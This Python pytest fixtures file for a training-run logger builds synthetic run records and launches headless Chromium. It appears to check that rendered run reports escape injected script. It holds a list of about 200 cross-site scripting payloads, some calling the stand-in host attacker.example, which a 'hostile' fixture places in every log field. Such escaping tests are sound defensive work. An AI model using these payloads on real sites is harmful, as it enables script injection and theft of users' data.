"""Records of runs, made by hand: what the other stages append, without running them."""

import math
import random
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from penstock.runlog import RunLog

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGUMENTS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]

NUM_STEPS = 200
WARMUP_STEPS = 20
ROWS_PER_STEP = 16
SEQ_LEN = 512
NUM_ROWS = 1100
STARTED = 1_760_000_000.0

TRAIN_DETAIL = {
    "tokens": 1_634_400,
    "seconds": 47.8,
    "tokens_per_second": 34_193.0,
    "parameters": 10_900_000,
    "train_rows": NUM_ROWS,
}

PYTHON_TEXT = '''def parse_args(argv=None):
\t"""Read the command line."""
    parser = argparse.ArgumentParser(prog="penstock")
    parser.add_argument("--out", type=Path, required=True)
    return parser.parse_args(argv)
'''


def start_record() -> dict[str, Any]:
    return {
        "kind": "start",
        "time": STARTED,
        "command": ["penstock", "run", "--repo", "/data/some repo", "--out", "runs/demo", "--verbose"],
        "version": "0.1.0",
        "python": "3.11.7",
        "platform": "Linux-6.1-x86_64",
        "hardware": {
            "cpu_name": "AMD EPYC 9V74",
            "cpu_cores": 16,
            "memory_bytes": 128 * 10**9,
            "gpus": [
                {
                    "name": "NVIDIA H200",
                    "memory_bytes": 141 * 10**9,
                    "compute_capability": [9, 0],
                    "peak_bf16_flops": 989e12,
                    "memory_bandwidth_bytes_per_second": 4.8e12,
                }
            ],
            "gpu_note": "",
        },
        "config": {
            "model": {"preset": "small"},
            "micro_batch_rows": None,
            "batch_rows": ROWS_PER_STEP,
            "steps": NUM_STEPS,
            "seed": 42,
        },
    }


def choice_records() -> list[dict[str, Any]]:
    choices = [
        ("device", "cuda", "the one accelerator of this machine"),
        ("dtype", "bfloat16", "the card has bf16 tensor cores"),
        ("attention", "flash, varlen", "measured 1.31x over efficient with document masks"),
        ("micro_batch_rows", 8, "throughput knee at 8 rows: 16 rows gave 1.4 % more"),
        ("gradient_accumulation_steps", 2, "16 rows a step, whatever fits at once"),
        ("warmup_steps", WARMUP_STEPS, "10 % of 200 steps"),
        ("seq_len", SEQ_LEN, "95 % of documents fit"),
        ("compile", False, "200 steps would not pay back 31 s of compilation"),
        ("tokenizer engine", "gigatoken 0.10", "supports this vocabulary and passed the self-check"),
        ("num_workers", 8, "16 cores // 2"),
    ]
    return [
        {"kind": "choice", "time": STARTED + 1, "name": name, "value": value, "reason": reason}
        for name, value, reason in choices
    ]


def data_record() -> dict[str, Any]:
    return {
        "kind": "data",
        "time": STARTED + 6,
        "store": "runs/demo/store",
        "store_version": 1,
        "digest": "5f2c9a7e41d0b8336ce1f0a97d24b65890e3c1fa6b7d8e9f00112233445566aa",
        "documents": 12_431,
        "tokens": 9_634_512,
        "bytes": 33_120_448,
        "splits": {
            "train": {"documents": 10_561, "tokens": 8_204_991},
            "val": {"documents": 1_251, "tokens": 951_012},
            "test": {"documents": 619, "tokens": 478_509},
        },
        "skipped": {"copy": 1_204, "binary": 342, "near-copy": 131, "too-large": 17, "not-utf8": 9},
    }


def mixture_record() -> dict[str, Any]:
    """The data of a run on two stores, of which the second is taken in two parts."""
    first = data_record()
    second = {
        "store": "stores/books",
        "digest": "77aa",
        "documents": 1_210,
        "tokens": 5_365_488,
        "bytes": 20_000_000,
        "splits": {"train": {"documents": 1_089, "tokens": 4_829_000}, "val": {"documents": 121, "tokens": 536_488}},
        "skipped": {"empty": 5},
    }
    bins = [{"shortest": 1, "longest": 511, "documents": 4, "tokens": 900}]
    for store in (first, second):
        store["statistics"] = {"lengths": {"histogram": bins, "percentiles": {}}}
    mix = [
        {"name": "code", "store": first["store"], "version": 1, "documents": 10_561, "tokens": 8_204_991,
         "weight": 0.5, "share": 0.3},
        {"name": "books:new/**", "store": "stores/books", "version": 3, "documents": 77, "tokens": 82_900,
         "weight": 3, "share": 0.1},
        {"name": "books:rest", "store": "stores/books", "version": 3, "documents": 1_012, "tokens": 4_746_100,
         "weight": 1, "share": 0.6},
    ]  # fmt: skip
    stores = [{**first, "name": "code", "version": 1}, {**second, "name": "books", "version": 3}]
    return {**first, "stores": stores, "mixture": {"mix": mix}}


def rows_record() -> dict[str, Any]:
    first = [
        {"origin": "stdlib/argparse.py", "tokens": 181, "text": PYTHON_TEXT},
        {"origin": "stdlib/données/été.py", "tokens": 331, "text": "# naïve café\nNAMES = ['Ünal', 'Łukasz']\n"},
    ]
    second = [{"origin": "stdlib/json/decoder.py", "tokens": 512, "text": "class JSONDecoder(object):\n    pass\n"}]
    rows = [
        {"row": 0, "documents": first, "text": "".join(document["text"] for document in first)},
        {"row": 731, "documents": second, "text": second[0]["text"]},
    ]
    return {"kind": "rows", "time": STARTED + 7, "split": "train", "seq_len": SEQ_LEN, "rows": rows}


def step_record(step: int, chance: random.Random) -> dict[str, Any]:
    progress = step / NUM_STEPS
    rate = min(step / WARMUP_STEPS, 0.5 * (1 + math.cos(math.pi * max(0.0, progress - 0.1) / 0.9)))
    seconds = 0.21 + chance.random() * 0.03 + (1.9 if step == 1 else 0) + (0.25 if step % 50 == 0 else 0)
    return {
        "kind": "step",
        "time": STARTED + 10 + step * 0.23,
        "step": step,
        "loss": 2.6 + 6.4 * math.exp(-step / 32) + chance.gauss(0, 0.12),
        "learning_rate": 6e-4 * rate,
        "grad_norm": 0.6 + 3.5 * math.exp(-step / 25) + abs(chance.gauss(0, 0.15)),
        "tokens": ROWS_PER_STEP * SEQ_LEN - chance.randrange(40),
        "seconds": seconds,
        "data_seconds": 0.0008 + chance.random() * 0.001 + (0.03 if step % 41 == 0 else 0),
        "position": step * ROWS_PER_STEP,
    }


def training_records() -> list[dict[str, Any]]:
    chance = random.Random(42)
    records: list[dict[str, Any]] = []
    for step in range(1, NUM_STEPS + 1):
        records.append(step_record(step, chance))
        now = records[-1]["time"]
        if step % 25 == 0:
            loss = 2.75 + 6.2 * math.exp(-step / 33)
            evaluation = {"split": "val", "loss": loss, "bits_per_byte": loss / 2.42, "tokens": 81_920, "seconds": 0.6}
            records.append({"kind": "evaluation", "time": now, "step": step, **evaluation})
        if step % 100 == 0:
            path = f"checkpoints/step-{step:06d}"
            records.append(
                {"kind": "checkpoint", "time": now, "step": step, "path": path, "bytes": 131_072_000, "seconds": 0.41}
            )
            text = "def main():\n    return None\n" if step == NUM_STEPS else " the the self.self (\n("
            records.append({"kind": "sample", "time": now, "step": step, "prompt": "def main", "text": text})
        if step % 22 == 0:
            gpu = [{"index": 0, "memory_bytes": 7 * 10**9, "peak_memory_bytes": 9 * 10**9 + step * 10**6}]
            memory = 3 * 10**9 + step * 10**6
            records.append({"kind": "hardware", "time": now, "cpu_percent": 31.5, "memory_bytes": memory, "gpu": gpu})
    return records


def phase_record(name: str, seconds: float, /, *, status: str = "ok", **detail: Any) -> dict[str, Any]:
    return {
        "kind": "phase",
        "time": STARTED + seconds,
        "name": name,
        "status": status,
        "seconds": seconds,
        "detail": detail,
    }


def completed_records() -> list[dict[str, Any]]:
    return [
        start_record(),
        *choice_records(),
        phase_record("prepare", 0.62, bytes=33_120_448, tokens=9_634_512, documents=12_431, units=2),
        data_record(),
        phase_record("plan", 0.08, rows=NUM_ROWS, waste_tokens=4_102),
        rows_record(),
        phase_record("tune", 8.4, measured=6),
        *training_records(),
        {"kind": "event", "time": STARTED + 40, "message": "clock of the card fell to 1,410 MHz for 3 s"},
        phase_record("train", 58.9, **TRAIN_DETAIL),
        {"kind": "end", "time": STARTED + 71.25, "status": "completed", "message": ""},
    ]


PAYLOAD_TEMPLATES = (
    "<script>{act}</script>",
    "</script><script>{act}</script>",
    "</title><script>{act}</script>",
    "</style><script>{act}</script>",
    "</pre></samp><script>{act}</script>",
    "--><script>{act}</script>",
    "]]><script>{act}</script>",
    "<SCRIPT/x>{act}</SCRIPT>",
    "<scr<script>ipt>{act}</scr</script>ipt>",
    '"><script>{act}</script>',
    "'><script>{act}</script>",
    "<img src=x onerror={act}>",
    "<img src='https://attacker.example/x.png' onerror='{act}'>",
    '" onmouseover="{act}" x="',
    "' onfocus='{act}' autofocus tabindex=0 x='",
    "<svg onload={act}>",
    "</svg><svg/onload={act}>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<body onload={act}>",
    "<iframe srcdoc='&lt;script&gt;parent.{act}&lt;/script&gt;'></iframe>",
    "<iframe src='javascript:{act}'></iframe>",
    "<a href='javascript:{act}'>look</a>",
    "javascript:{act}",
    "<details open ontoggle={act}>",
    "<video><source onerror={act}>",
    "<input autofocus onfocus={act}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={act}></style></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'>",
    "<template><script>{act}</script></template><object data='data:text/html,<script>{act}</script>'></object>",
    "<embed src='https://attacker.example/x.swf'><script>{act}</script>",
    "<link rel=stylesheet href='https://attacker.example/x.css'><style>@import 'https://attacker.example/y.css'</style>{act}",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/{act}'>",
    "<base href='https://attacker.example/'><form action=/x><button autofocus onfocus={act}>",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "\u202e<script>{act}</script>\u2066",
    "\x1b[31m<script>{act}</script>\x1b]8;;https://attacker.example/\x07",
    "\x00<script\x00>{act}</script>",
    "<\u200bscript>{act}</script>\ud800",
    "\uff1cscript\uff1e{act}\uff1c/script\uff1e",
    "+ADw-script+AD4-{act}+ADw-/script+AD4-",
)
PAYLOAD_ACTIONS = (
    "window.__pwned=1",
    "alert(1)",
    "confirm(document.domain)",
    "prompt`1`",
    "fetch('//attacker.example')",
)


def all_payloads() -> list[str]:
    return [template.replace("{act}", action) for action in PAYLOAD_ACTIONS for template in PAYLOAD_TEMPLATES]


def hostile_records() -> list[dict[str, Any]]:
    """A run in which every text field, key or value, is a payload, and every payload is in it somewhere.

    `place` walks through the payloads, so that every kind of place meets many of them.
    """
    payloads = all_payloads()
    place = iter(payloads * 10)
    records = completed_records()
    for record in records:
        if record["kind"] == "choice":
            record.update(name=next(place), value=next(place), reason=next(place))
        elif record["kind"] == "phase":
            record.update(name=next(place), detail={next(place): next(place), next(place): 3})
        elif record["kind"] == "evaluation" and record["step"] < 100:
            record.update(split=next(place))
        elif record["kind"] == "checkpoint":
            record.update(path=next(place))
        elif record["kind"] == "sample":
            record.update(prompt=next(place), text=next(place))
    records[0].update(command=[next(place), next(place)], version=next(place), python=next(place), platform=next(place))
    records[0]["hardware"] = {next(place): next(place), "gpus": [{"name": next(place), next(place): [next(place)]}]}
    splits = {next(place): {"documents": 1, "tokens": 2}, next(place): next(place)}
    skipped = {next(place): 4, next(place): {"count": 2, "examples": [next(place)]}}
    data = {"store": next(place), "digest": next(place), "splits": splits, "skipped": skipped}
    data["stores"] = [
        {"name": next(place), **data},
        {"name": next(place), "store": next(place), "version": next(place)},
    ]
    data["mixture"] = {
        "mix": [{"name": next(place), "store": next(place), "weight": next(place), "share": next(place)}]
    }
    records.append({"kind": "data", "time": STARTED, "store_version": 1, **data})
    documents = [{"origin": next(place), "tokens": 3, "text": next(place)} for _ in range(5)]
    rows = [{"row": next(place), "documents": documents}, {"row": 1, "documents": payloads[:20], "text": next(place)}]
    records.append({"kind": "rows", "time": STARTED, "split": next(place), "seq_len": next(place), "rows": rows})
    # One row that holds all of them, so that none is missed by chance.
    records += [{"kind": "event", "time": STARTED, "message": payload} for payload in payloads[:40]]
    rest = [{"origin": payload, "text": payload} for payload in payloads]
    rows = [{"row": at, "documents": rest[at * 40 : at * 40 + 40]} for at in range(5)]
    records.insert(1, {"kind": "rows", "time": STARTED, "split": "train", "seq_len": 8, "rows": rows})
    records.append({"kind": "end", "time": STARTED + 80, "status": next(place), "message": next(place)})
    return records


@pytest.fixture
def payloads() -> list[str]:
    """200 ways to run a script."""
    return all_payloads()


@pytest.fixture
def hostile() -> list[dict[str, Any]]:
    """A run full of them."""
    return hostile_records()


@pytest.fixture
def records() -> list[dict[str, Any]]:
    """A completed run of 200 steps."""
    return completed_records()


@pytest.fixture
def mixed_records() -> list[dict[str, Any]]:
    """The same run, on a mixture."""
    return [mixture_record() if record["kind"] == "data" else record for record in completed_records()]


@pytest.fixture
def run_of(tmp_path: Path) -> Callable[[list[dict[str, Any]]], Path]:
    """Writes records as a run folder, through the run log itself."""

    def write(records: list[dict[str, Any]], name: str = "demo") -> Path:
        folder = tmp_path / name
        with RunLog(folder) as log:
            for record in records:
                log.append(**record)
        return folder

    return write


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """Chromium, through Playwright; tests that ask for it are skipped where there is none."""
    playwright_api = pytest.importorskip("playwright.sync_api", reason="playwright isn't installed")
    if not CHROMIUM.exists():
        pytest.skip(f"no browser at {CHROMIUM}: apt-get install chromium")
    with playwright_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGUMENTS)
        yield browser
        browser.close()
